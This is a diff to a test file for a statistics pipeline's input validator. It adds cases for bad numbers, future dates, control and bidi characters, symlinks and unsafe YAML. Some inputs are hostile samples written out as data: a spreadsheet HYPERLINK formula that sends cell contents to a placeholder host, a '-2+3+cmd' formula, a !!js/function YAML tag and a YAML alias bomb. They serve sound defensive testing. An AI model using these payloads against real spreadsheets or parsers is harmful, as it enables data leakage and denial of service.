@@ -5,10 +5,11 @@
  * Each case copies the fixture, injects one defect, and runs the pipeline into a folder that
  * already holds a good publication of the unbroken fixture.
  */
-import { appendFile, readFile, rm, writeFile } from 'node:fs/promises';
+import { appendFile, mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { InputError } from '../../scripts/lib/errors.ts';
+import { MAX_CELL_CHARS, MAX_FILE_BYTES } from '../../scripts/lib/input-rules.ts';
 import type { SourceModule } from '../../scripts/lib/types.ts';
 import { fixtureEurostatSource } from '../fixtures/pipeline/fixture-source.ts';
 import { copyFixture, hashTree, leftovers, makeTempDir, runFixture, type FixtureCopy } from '../fixtures/pipeline/helpers.ts';
@@ -242,7 +243,7 @@ const cases: Case[] = [
   },
   // --- periods ------------------------------------------------------------------------------
   { name: 'date before 1945', mutate: append(OBS_JK, row({ period: '1930', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /before 1945/ },
-  { name: 'date in the future', mutate: append(OBS_JK, row({ period: '2031-01-01', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /more than a year from today/ },
+  { name: 'date in the future', mutate: append(OBS_JK, row({ period: '2031-01-01', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /ends after 2027-11-23, the horizon \(1 year after the release date\)/ },
   { name: '30 February', mutate: append(OBS_JK, row({ period: '2023-02-30', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /2023-02-30 is not a calendar date/ },
   { name: 'bad period format', mutate: append(OBS_JK, row({ period: '2017H1', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /period must be YYYY/ },
   {
@@ -295,6 +296,146 @@ const cases: Case[] = [
     name: 'breakdown above its total',
     mutate: editLine(OBS_JK, 4, (l) => l.replace(',49014,', ',89014,')),
     file: OBS_JK, line: 4, column: 'value', reason: /breakdown sex=male \(89014\) is above its total 79101 at .*japan-korea\.csv:3/,
+  },
+  // --- numbers that would publish something else (issue 16) ---------------------------------
+  { name: 'value that underflows to zero', mutate: append(OBS_JK, row({ value: '1e-400' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /"1e-400" is too small to store/ },
+  { name: 'negative zero value', mutate: append(OBS_JK, row({ value: '-0' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /negative zero/ },
+  { name: 'value that overflows a double', mutate: append(OBS_JK, row({ value: '1e400' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /not a finite number/ },
+  // --- dates beyond the horizon, in every date column -----------------------------------------
+  {
+    name: 'rule change dated 2099',
+    mutate: editLine(RULES, 2, (l) => l.replace(',2000-02-01,', ',2099-02-01,')),
+    file: RULES, line: 2, column: 'date', reason: /date 2099-02-01 is after 2027-11-23, the horizon/,
+  },
+  {
+    name: 'regularization starting in 2099',
+    mutate: editLine(REGS, 3, (l) => l.replace(',2003-09,2003-11,', ',2099-09,2099-11,')),
+    file: REGS, line: 3, column: 'start_date', reason: /date 2099-09 is after .* horizon/,
+  },
+  {
+    name: 'regularization ending in 2099',
+    mutate: editLine(REGS, 3, (l) => l.replace(',2003-09,2003-11,', ',2003-09,2099,')),
+    file: REGS, line: 3, column: 'end_date', reason: /date 2099 is after .* horizon/,
+  },
+  {
+    name: 'source published in 2099',
+    mutate: editLine(SRC_JK, 3, (l) => l.replace(',2024-03-22,', ',2099-03-22,')),
+    file: SRC_JK, line: 3, column: 'published', reason: /date 2099-03-22 is after .* horizon/,
+  },
+  {
+    name: 'source accessed in 2099',
+    mutate: editLine(SRC_JK, 3, (l) => l.replace(',2024-03-22,2026-11-23,', ',2024-03-22,2099-11-23,')),
+    file: SRC_JK, line: 3, column: 'accessed', reason: /date 2099-11-23 is after .* horizon/,
+  },
+  {
+    name: 'series break dated 2099',
+    mutate: edit(SERIES, (t) => t.replace('    - date: 1997\n', '    - date: 2099\n')),
+    file: SERIES, line: 2, column: 'breaks.date', reason: /date 2099 is after .* horizon/,
+  },
+  // --- text: controls, bidi overrides, formulas, size -----------------------------------------
+  { name: 'NUL inside a note', mutate: append(OBS_JK, row({ note: 'Test\u0000alternative.' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /control character U\+0000 at character 5/ },
+  { name: 'tab inside a note', mutate: append(OBS_JK, row({ note: 'Test\talternative.' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /control character U\+0009/ },
+  {
+    name: 'right-to-left override in a source title',
+    mutate: editLine(SRC_JK, 2, (l) => l.replace(',本邦における', ',\u202e本邦における')),
+    file: SRC_JK, line: 2, column: 'title', reason: /bidirectional control character U\+202E at character 1/,
+  },
+  {
+    name: 'formula in a source title',
+    mutate: editLine(SRC_JK, 2, (l) => l.replace(',本邦における不法残留者数について(令和5年7月1日現在),', ',"=HYPERLINK(""http://example.invalid/""&A2,""Open"")",')),
+    file: SRC_JK, line: 2, column: 'title', reason: /starts with "=", which a spreadsheet would run as a formula/,
+  },
+  { name: 'formula in a note (minus sign)', mutate: append(OBS_JK, row({ note: '-2+3+cmd' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /starts with "-"/ },
+  {
+    name: 'formula in a series YAML title',
+    mutate: edit(SERIES, (t) => t.replace('  title: Overstayers in Japan\n', "  title: '@SUM(A1:A9)'\n")),
+    file: SERIES, line: 3, column: 'title', reason: /starts with "@"/,
+  },
+  {
+    name: 'bidi isolate inside a series YAML list',
+    mutate: edit(SERIES, (t) => t.replace('      note: Reference date moved', '      note: "\\u2067Reference date moved').replace('from 1 May to 1 January.\n', 'from 1 May to 1 January."\n')),
+    file: SERIES, line: 12, column: 'breaks[0].note', reason: /bidirectional control character U\+2067/,
+  },
+  {
+    name: 'cell above the size limit',
+    mutate: append(OBS_JK, row({ note: 'x'.repeat(MAX_CELL_CHARS + 1) })),
+    file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: new RegExp(`${MAX_CELL_CHARS + 1} characters is longer than the limit of ${MAX_CELL_CHARS}`),
+  },
+  {
+    name: 'file above the size limit (refused before it is read)',
+    // A sparse file: its size is past the limit, but it takes no disk space and is never read.
+    mutate: async (input) => truncate(path(input, OBS_EU), MAX_FILE_BYTES + 1),
+    file: OBS_EU, line: 0, reason: /larger than the limit of 67108864 bytes/,
+  },
+  // --- files that are not regular files ----------------------------------------------------------
+  {
+    name: 'curated CSV replaced by a symlink',
+    mutate: async (input) => {
+      const p = path(input, OBS_JK);
+      await rename(p, `${p}.real`);
+      await symlink(`${p}.real`, p);
+    },
+    file: OBS_JK, line: 0, reason: /symbolic link/,
+  },
+  {
+    name: 'dangling symlink in place of a required file',
+    mutate: async (input) => {
+      await rm(path(input, REGS));
+      await symlink(path(input, 'nowhere.csv'), path(input, REGS));
+    },
+    file: REGS, line: 0, reason: /symbolic link/,
+  },
+  {
+    name: 'folder named like a CSV',
+    mutate: async (input) => mkdir(path(input, 'curated/observations/zz-folder.csv')),
+    file: 'curated/observations/zz-folder.csv', line: 0, reason: /not a regular file/,
+  },
+  {
+    name: 'series YAML replaced by a symlink',
+    mutate: async (input) => {
+      const p = path(input, SERIES);
+      await rename(p, `${p}.real`);
+      await symlink(`${p}.real`, p);
+    },
+    file: SERIES, line: 0, reason: /symbolic link/,
+  },
+  // --- YAML beyond the core schema -------------------------------------------------------------
+  {
+    name: 'YAML tag outside the core schema (!!js/function)',
+    mutate: edit(SERIES, (t) => t.replace('  title: Overstayers in Japan\n', "  title: !!js/function 'function () { return 1 }'\n")),
+    file: SERIES, line: 3, reason: /YAML tag outside the core schema/,
+  },
+  {
+    name: 'YAML local tag',
+    mutate: edit(SERIES, (t) => t.replace('  unit: persons\n', '  unit: !unit persons\n')),
+    file: SERIES, line: 5, reason: /YAML tag outside the core schema/,
+  },
+  {
+    name: 'YAML alias bomb',
+    // Nine levels of nine aliases: a few hundred bytes that expand to 9^9 strings.
+    mutate: edit(SERIES, (t) => {
+      const levels = ['    - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
+      for (let k = 1; k < 9; k++) levels.push(`    - &${String.fromCharCode(97 + k)} [${Array(9).fill(`*${String.fromCharCode(96 + k)}`).join(', ')}]`);
+      return `${t}- series_id: bomb\n  title: Bomb\n  category: irregular_residence\n  unit: persons\n  definition: x\n  counts: x\n  excludes: x\n  measure: stock\n  breaks: []\n  comparability:\n${levels.join('\n')}\n  preference_note: null\n`;
+    }),
+    // The fixture has 70 lines; the first alias (*a) is on the second level, line 70 + 12.
+    file: SERIES, line: 82, reason: /YAML alias \*a is not allowed/,
+  },
+  // --- country codes (issue 9) ---------------------------------------------------------------------
+  {
+    name: 'country code that is not ISO 3166-1 (XQZ)',
+    mutate: append(COUNTRIES, 'XQZ,Nowhere,,,,,false,'),
+    file: COUNTRIES, line: 7, column: 'country_code', reason: /"XQZ" is not an ISO 3166-1 alpha-3 country code/,
+  },
+  {
+    name: 'duplicate country name',
+    mutate: append(COUNTRIES, 'PHL,Japan,,,,,false,'),
+    file: COUNTRIES, line: 7, column: 'name_en', reason: /duplicate country name "Japan" \(first used at .*countries\.csv:2\)/,
+  },
+  {
+    name: 'aggregate not flagged as one',
+    mutate: editLine(COUNTRIES, 6, (l) => l.replace(',true,', ',false,')),
+    file: COUNTRIES, line: 6, column: 'is_aggregate', reason: /EU27_2020 is an aggregate/,
   },
   // --- series YAML ----------------------------------------------------------------------------
   {
